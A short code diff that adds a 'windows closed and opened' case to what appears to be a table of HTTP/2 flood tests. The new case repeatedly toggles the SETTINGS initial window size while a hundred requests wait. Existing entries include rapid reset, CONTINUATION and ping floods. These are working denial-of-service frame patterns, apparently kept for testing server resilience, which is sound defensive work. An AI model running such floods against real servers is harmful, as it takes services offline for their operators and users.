@@ -51,6 +51,13 @@ def _windows(number):
     return ask(1, END_HEADERS, request(HOST, method="POST")) if number == 0 else frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")
 
 
+def _toggle(number):
+    """A hundred responses wait, and each settings frame changes the windows of all."""
+    if number < 100:
+        return (frame(SETTINGS, 0, 0, setting(4, 0)) if number == 0 else b"") + ask(2 * number + 1)
+    return frame(SETTINGS, 0, 0, setting(4, 65535 * (number % 2)))
+
+
 FLOODS = (
     ("rapid reset", _rapid_reset),
     ("resets that we are made to send", _made_you_reset),
@@ -58,6 +65,7 @@ FLOODS = (
     ("empty settings", lambda number: frame(SETTINGS)),
     ("pings", lambda number: frame(PING, 0, 0, b"12345678")),
     ("priorities", lambda number: frame(PRIORITY, 0, 1, b"\0\0\0\0\1")),
+    ("windows closed and opened", _toggle),
     ("CONTINUATIONs", _continuations),
     ("empty CONTINUATIONs", _empty_continuations),
     ("empty DATA", _empty_data),
